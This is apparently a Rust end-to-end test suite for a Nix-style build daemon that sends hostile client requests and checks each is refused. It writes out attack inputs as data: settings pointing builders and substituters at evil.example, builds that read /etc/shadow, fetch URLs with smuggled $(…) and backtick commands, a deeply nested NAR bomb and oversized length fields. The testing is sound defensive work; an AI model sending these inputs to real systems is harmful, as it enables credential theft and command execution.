//! C rows: a hostile client over the socket. Every client here is untrusted (the lab trusts
//! nobody) unless a row says otherwise.

use std::time::{Duration, Instant};

use ward_e2e_tests::nar;
use ward_e2e_tests::wire::{BasicDerivation, PathInfo, WireError, WorkerClient};

use crate::ensure;
use crate::harness::{Attack, Category, Ctx, Outcome, StoreRule, HELD};

pub fn rows() -> Vec<Attack> {
    let row = |id, attack, safe, store, run| Attack {
        id,
        category: Category::C,
        attack,
        safe,
        store,
        run,
        open: None,
    };
    vec![
        row(
            "C1",
            "untrusted SetOptions turns off the sandbox, seccomp and signatures, sets hooks, \
             builders, substituters and extra-sandbox-paths=/etc/shadow",
            "all ignored with a warning; a canary build shows the sandbox unchanged; no hook runs",
            StoreRule::MayAddValid,
            c1_untrusted_set_options,
        ),
        row(
            "C2",
            "untrusted AddToStoreNar of an input-addressed path with dontCheckSigs=1 and no or a \
             bogus signature",
            "refused (lacks a valid signature); the path is not valid",
            StoreRule::Unchanged,
            c2_unsigned_add,
        ),
        row(
            "C4",
            "untrusted BuildDerivation of a BasicDerivation whose output is an existing path",
            "refused: not privileged to build input-addressed derivations",
            StoreRule::Unchanged,
            c4_build_derivation_over_existing_output,
        ),
        row(
            "C6",
            "untrusted repair: BuildPaths in repair mode, VerifyStore with repair",
            "refused (not privileged to repair)",
            StoreRule::Unchanged,
            c6_untrusted_repair,
        ),
        row(
            "C8",
            "CollectGarbage with ignoreLiveness, and deleting a path another user's connection \
             holds",
            "refused, or only dead paths deleted",
            StoreRule::Unchanged,
            c8_gc_liveness,
        ),
        row(
            "C9",
            "untrusted RegisterDrvOutput maps a CA output to a path of the attacker's choosing",
            "refused without a trusted signature",
            StoreRule::Unchanged,
            c9_unsigned_realisation,
        ),
        row(
            "C10",
            "connect as a user outside allowed-users, or from a process of the build group",
            "connection closed before any op",
            StoreRule::Unchanged,
            c10_not_allowed,
        ),
        row(
            "C12",
            "downgrade to an old protocol to reach legacy AddToStore with a NAR bomb",
            "the version is refused or the same bounded parser refuses the bomb",
            StoreRule::Unchanged,
            c12_downgrade,
        ),
        row(
            "C13",
            "wire strings and lists of 2^63 and 2^64-8 bytes, and a truncated frame",
            "refused without allocating; other clients unaffected",
            StoreRule::Unchanged,
            c13_huge_lengths,
        ),
        row(
            "C15",
            "derivations with __noChroot, __impure, impureHostDeps=[/etc] or \
             requiredSystemFeatures=[uid-range] from an untrusted client",
            "refused, never silently honoured",
            StoreRule::Unchanged,
            c15_sandbox_escapes_by_attribute,
        ),
        row(
            "C16",
            "builtin:fetchurl of file:///etc/shadow, with CRLF and $(…) in the url",
            "no host file read, no command run, a clean failure",
            StoreRule::Unchanged,
            c16_hostile_fetchurl,
        ),
    ]
}

/// The daemon's error text, or a failure of the row if the request was not refused.
pub fn refused<T: std::fmt::Debug>(what: &str, r: Result<T, WireError>) -> Result<String, String> {
    match r {
        Err(WireError::Daemon { message }) => Ok(message),
        Err(other) => Err(format!("{what}: not a clear error but {other}")),
        Ok(v) => Err(format!("{what} was accepted: {v:?}")),
    }
}

fn c1_untrusted_set_options(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let marker = lab.scratch.path().join("c1-hook-ran");
    let hook = lab.scratch.path().join("c1-hook.sh");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let file = lab.drv_file(
        "c1-canary",
        "{ cat /proc/self/status; echo shadow:; cat /etc/shadow; echo end; } > $out 2>&1",
        "",
    );
    let hook = hook.to_str().unwrap();
    let mut args = vec![file.to_str().unwrap(), "--no-out-link"];
    let overrides = [
        ("sandbox", "false"),
        ("build-users-group", ""),
        ("pre-build-hook", hook),
        ("post-build-hook", hook),
        ("diff-hook", hook),
        ("run-diff-hook", "true"),
        ("builders", "ssh://evil.example"),
        ("extra-sandbox-paths", "/etc/shadow"),
        ("filter-syscalls", "false"),
        ("allow-new-privileges", "true"),
        ("require-sigs", "false"),
        (
            "trusted-public-keys",
            "evil:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
        ),
        ("substituters", "http://evil.example"),
    ];
    for (name, value) in &overrides {
        args.extend(["--option", name, value]);
    }
    let out = lab.nix().ok("nix-build", &args);
    let report = std::fs::read_to_string(lab.real_path(&out.single_line())).unwrap();
    ensure!(report.contains("Seccomp:\t2"), "seccomp was off:\n{report}");
    ensure!(
        report.contains("NoNewPrivs:\t1"),
        "new privileges allowed:\n{report}"
    );
    ensure!(
        report.contains("CapEff:\t0000000000000000"),
        "the builder has capabilities:\n{report}"
    );
    ensure!(
        !report.contains("root:"),
        "the builder read /etc/shadow:\n{report}"
    );
    let uid_line = report.lines().find(|l| l.starts_with("Uid:")).unwrap_or("");
    ensure!(
        !uid_line.split_whitespace().skip(1).any(|u| u == "0"),
        "the builder ran as root: {uid_line}"
    );
    ensure!(!marker.exists(), "a hook the client named ran");
    let warned = out.stderr.contains("ignor");
    ensure!(
        warned,
        "the client was not told its settings are ignored:\n{}",
        out.stderr
    );
    HELD
}

fn c2_unsigned_add(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let nar = nar::nar_of_file(b"an input-addressed path nobody signed\n", false);
    let path = nar::made_up_path(&lab.store_dir(), "unsigned", "c2");
    for sigs in [
        vec![],
        vec![format!("cache.example.org-1:{}", "A".repeat(86) + "==")],
    ] {
        let mut info = PathInfo::for_nar(&path, &nar);
        info.sigs = sigs.clone();
        let mut client = lab.wire();
        let message = refused(
            "an unsigned input-addressed add",
            client.add_to_store_nar(&info, &nar, 1 << 16, true),
        )?;
        ensure!(
            message.contains("lacks a valid signature") && message.contains(&path),
            "the error does not say why: {message}"
        );
        ensure!(
            !client.is_valid_path(&path).map_err(|e| e.to_string())?,
            "{path} is valid"
        );
    }
    HELD
}

fn c4_build_derivation_over_existing_output(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let drv = BasicDerivation {
        outputs: vec![(
            "out".into(),
            lab.known_path.clone(),
            String::new(),
            String::new(),
        )],
        input_srcs: vec![],
        platform: "x86_64-linux".into(),
        builder: "/bin/sh".into(),
        args: vec!["-c".into(), "echo replaced > $out".into()],
        env: vec![("out".into(), lab.known_path.clone())],
    };
    let drv_path = nar::made_up_path(&lab.store_dir(), "overwrite.drv", "c4");
    let mut client = lab.wire();
    let message = match client.build_derivation(&drv_path, &drv, 0) {
        Err(WireError::Daemon { message }) => message,
        Err(other) => return Err(format!("not a clear error: {other}")),
        Ok(result) if result.status != 0 && result.status != 1 => result.error_msg,
        Ok(result) => return Err(format!("the build was accepted: {result:?}")),
    };
    ensure!(
        message.contains("not privileged") || message.contains("input-addressed"),
        "{message}"
    );
    let before = std::fs::read(lab.real_path(&lab.known_path)).unwrap();
    ensure!(
        before == b"valid before the bad request\n",
        "the existing path changed"
    );
    HELD
}

fn c6_untrusted_repair(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    // BuildPaths (op 9) in repair mode (1).
    let mut client = lab.wire();
    let r = (|| {
        client.write_u64(9)?;
        client.write_strings(std::slice::from_ref(&lab.known_path))?;
        client.write_u64(1)?;
        client.process_stderr()?;
        client.read_u64()
    })();
    let message = refused("BuildPaths in repair mode", r)?;
    ensure!(message.contains("repair"), "{message}");
    // VerifyStore (op 35) with checkContents and repair.
    let mut client = lab.wire();
    let r = (|| {
        client.write_u64(35)?;
        client.write_u64(1)?;
        client.write_u64(1)?;
        client.process_stderr()?;
        client.read_u64()
    })();
    let message = refused("VerifyStore with repair", r)?;
    ensure!(message.contains("repair"), "{message}");
    HELD
}

fn c8_gc_liveness(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    // Alice adds a path; her open connection holds it as a temporary root.
    let stream = lab.connect_as(lab.alice.uid.as_raw(), lab.alice.gid.as_raw())?;
    let mut alice = WorkerClient::connect_stream(stream).map_err(|e| e.to_string())?;
    let held = alice
        .add_text_to_store("c8-alice-uses-this", b"in use by alice\n", &[])
        .map_err(|e| e.to_string())?;
    ctx.arm();
    let mut client = lab.wire();
    let message = refused(
        "CollectGarbage with ignoreLiveness",
        client.collect_garbage(ward_e2e_tests::wire::gc_action::DELETE_DEAD, &[], true, 0),
    )?;
    ensure!(message.to_lowercase().contains("liveness"), "{message}");
    let mut client = lab.wire();
    let r = client.collect_garbage(
        ward_e2e_tests::wire::gc_action::DELETE_SPECIFIC,
        &[held.clone(), lab.known_path.clone()],
        false,
        0,
    );
    if let Ok((deleted, _)) = &r {
        ensure!(deleted.is_empty(), "live paths were deleted: {deleted:?}");
    }
    ensure!(
        alice.is_valid_path(&held).map_err(|e| e.to_string())?,
        "alice's path went"
    );
    HELD
}

/// RegisterDrvOutput (op 42) of an unsigned realisation pointing at `out`.
pub fn register_realisation(client: &mut WorkerClient, out: &str) -> Result<(), WireError> {
    let base = out.rsplit('/').next().unwrap();
    let json = format!(
        r#"{{"dependentRealisations":{{}},"id":"sha256:{}!out","outPath":"{base}","signatures":[]}}"#,
        "ab".repeat(32)
    );
    client.write_u64(42)?;
    client.write_string(json.as_bytes())?;
    client.process_stderr()
}

fn c9_unsigned_realisation(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let mut client = lab.wire();
    let message = refused(
        "an unsigned realisation",
        register_realisation(&mut client, &lab.known_path),
    )?;
    ensure!(message.contains("lacks a valid signature"), "{message}");
    HELD
}

fn c10_not_allowed(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let nixbld = nix::unistd::Group::from_name("nixbld")
        .ok()
        .flatten()
        .ok_or("no nixbld group")?;
    for (who, uid, gid) in [
        ("nobody (not in allowed-users)", 65534, 65534),
        (
            "alice with the build group as primary group",
            lab.alice.uid.as_raw(),
            nixbld.gid.as_raw(),
        ),
    ] {
        let stream = match lab.connect_as(uid, gid) {
            Ok(s) => s,
            // Refused at connect (the socket's mode) is refused before any op too.
            Err(_) => continue,
        };
        let mut client = match WorkerClient::connect_stream(stream) {
            Ok(c) => c,
            Err(WireError::Daemon { message }) => {
                ensure!(
                    message.contains("allowed") || message.contains("build"),
                    "{who}: {message}"
                );
                continue;
            }
            Err(_) => continue,
        };
        let r = client.is_valid_path(&lab.known_path);
        ensure!(r.is_err(), "{who} was served: {r:?}");
    }
    HELD
}

/// A NAR nested `depth` directories deep.
pub fn deep_nar(depth: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let put = |out: &mut Vec<u8>, s: &[u8]| {
        out.extend_from_slice(&(s.len() as u64).to_le_bytes());
        out.extend_from_slice(s);
        out.resize(out.len() + (8 - s.len() % 8) % 8, 0);
    };
    put(&mut out, b"nix-archive-1");
    for _ in 0..depth {
        for t in [
            &b"("[..],
            b"type",
            b"directory",
            b"entry",
            b"(",
            b"name",
            b"d",
            b"node",
        ] {
            put(&mut out, t);
        }
    }
    for t in [&b"("[..], b"type", b"regular", b"contents", b"", b")"] {
        put(&mut out, t);
    }
    for _ in 0..depth {
        put(&mut out, b")");
        put(&mut out, b")");
    }
    out
}

fn c12_downgrade(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let mut client = match WorkerClient::connect_as(lab.socket(), 18) {
        Ok(c) => c,
        Err(WireError::Daemon { .. }) | Err(WireError::Io(_)) => return HELD,
        Err(e) => return Err(format!("the old handshake failed oddly: {e}")),
    };
    // Legacy AddToStore (op 7): name, fixed, recursive, algorithm, then the bare NAR.
    let bomb = deep_nar(100_000);
    let r = (|| {
        client.write_u64(7)?;
        client.write_string(b"bomb")?;
        client.write_u64(0)?;
        client.write_u64(1)?;
        client.write_string(b"sha256")?;
        client.send_raw(&bomb)?;
        client.process_stderr()?;
        client.read_string()
    })();
    match r {
        Ok(path) => Err(format!("the bomb was added as {path}")),
        Err(WireError::Daemon { message }) => {
            ensure!(
                message.contains("deep") || message.contains("depth"),
                "{message}"
            );
            HELD
        }
        // A hang-up mid-request is a refusal where 1.18 has no error frame for it.
        Err(_) => HELD,
    }
}

fn c13_huge_lengths(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let cases: [(&str, Vec<u64>); 4] = [
        ("IsValidPath with a 2^63-byte string", vec![1, 1 << 63]),
        (
            "IsValidPath with a 2^64-8-byte string",
            vec![1, u64::MAX - 7],
        ),
        ("QueryValidPaths with 2^64-8 paths", vec![31, u64::MAX - 7]),
        ("AddToStoreNar with a 2^63-byte frame", vec![]),
    ];
    for (what, words) in cases {
        let mut client = lab.wire();
        let started = Instant::now();
        if words.is_empty() {
            let nar = nar::nar_of_file(b"framed\n", false);
            let (path, ca) = nar::source_path(&lab.store_dir(), "c13", &nar);
            let mut info = PathInfo::for_nar(&path, &nar);
            info.ca = ca;
            client
                .begin_add_to_store_nar(&info, false)
                .map_err(|e| e.to_string())?;
            client.write_u64(1 << 63).map_err(|e| e.to_string())?;
            client.send_raw(&[0u8; 4096]).map_err(|e| e.to_string())?;
        } else {
            for w in &words {
                client.write_u64(*w).map_err(|e| e.to_string())?;
            }
        }
        client.set_read_timeout(Duration::from_secs(10)).unwrap();
        match client.process_stderr() {
            Err(WireError::Daemon { message }) => {
                ensure!(
                    message.contains("long")
                        || message.contains("large")
                        || message.contains("limit"),
                    "{what}: {message}"
                );
            }
            Err(WireError::Io(e)) if e.kind() != std::io::ErrorKind::WouldBlock => {}
            other => return Err(format!("{what}: {other:?}")),
        }
        ensure!(
            started.elapsed() < Duration::from_secs(5),
            "{what}: took {:?}",
            started.elapsed()
        );
    }
    // A frame cut short: the connection ends, nothing is added.
    let mut client = lab.wire();
    let nar = nar::nar_of_file(b"cut short\n", false);
    let (path, ca) = nar::source_path(&lab.store_dir(), "c13-cut", &nar);
    let mut info = PathInfo::for_nar(&path, &nar);
    info.ca = ca;
    client
        .begin_add_to_store_nar(&info, false)
        .map_err(|e| e.to_string())?;
    client
        .write_u64(nar.len() as u64)
        .map_err(|e| e.to_string())?;
    client
        .send_raw(&nar[..nar.len() / 2])
        .map_err(|e| e.to_string())?;
    client.hang_up();
    HELD
}

fn c15_sandbox_escapes_by_attribute(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let probe = "ls /etc > $out 2>&1; cat /proc/self/status >> $out";
    let cases = [
        ("c15-nochroot", "__noChroot = true;"),
        ("c15-impure", "__impure = true;"),
        ("c15-hostdeps", "__impureHostDeps = [ \"/etc\" ];"),
        (
            "c15-uidrange",
            "requiredSystemFeatures = [ \"uid-range\" ];",
        ),
    ];
    for (name, attr) in cases {
        let file = lab.drv_file(name, probe, attr);
        let drv = match lab.nix().run("nix-instantiate", &[file.to_str().unwrap()]) {
            out if out.status.success() => out.single_line(),
            // Refused at instantiation (e.g. __impure needs an experimental feature).
            _ => continue,
        };
        ctx.arm();
        let out = lab.nix().run("nix-store", &["--realise", &drv]);
        if out.status.success() {
            // Built: then only as any build, in the sandbox (Nix reads impureHostDeps on
            // macOS only): the sandbox's own /etc, not the host's.
            let path = out.single_line();
            let report = std::fs::read_to_string(lab.real_path(&path)).unwrap_or_default();
            let host_only = ["shadow", "os-release", "fstab", "hostname"];
            ensure!(
                !report.lines().any(|l| host_only.contains(&l.trim()))
                    && report.contains("Seccomp:\t2"),
                "{name} was honoured ({attr}):\n{report}"
            );
            continue;
        }
        ensure!(!out.stderr.trim().is_empty(), "{name}: no reason given");
    }
    HELD
}

fn c16_hostile_fetchurl(ctx: &mut Ctx<'_>) -> Outcome {
    let lab = ctx.lab;
    let marker = lab.scratch.path().join("c16-ran");
    let urls = [
        "file:///etc/shadow".to_string(),
        format!("file:///etc/shadow\r\nX: $(touch {})", marker.display()),
        format!(
            "http://127.0.0.1:1/$(touch {})`touch {}`",
            marker.display(),
            marker.display()
        ),
    ];
    for (i, url) in urls.iter().enumerate() {
        let body = format!(
            r#"derivation {{
  name = "c16-{i}";
  system = "builtin";
  builder = "builtin:fetchurl";
  url = {url:?};
  urls = [ {url:?} ];
  outputHashMode = "flat";
  outputHashAlgo = "sha256";
  outputHash = "{}";
  executable = false;
  unpack = false;
}}"#,
            "0".repeat(64)
        );
        let file = ward_e2e_tests::builds::expr(&lab.f, &format!("c16-{i}"), &body);
        let drv = lab.instantiate(&file);
        ctx.arm();
        let out = lab.nix().run("nix-store", &["--realise", &drv]);
        ensure!(!out.status.success(), "{url} was fetched: {out}");
        ensure!(!marker.exists(), "a command in the url ran");
    }
    HELD
}
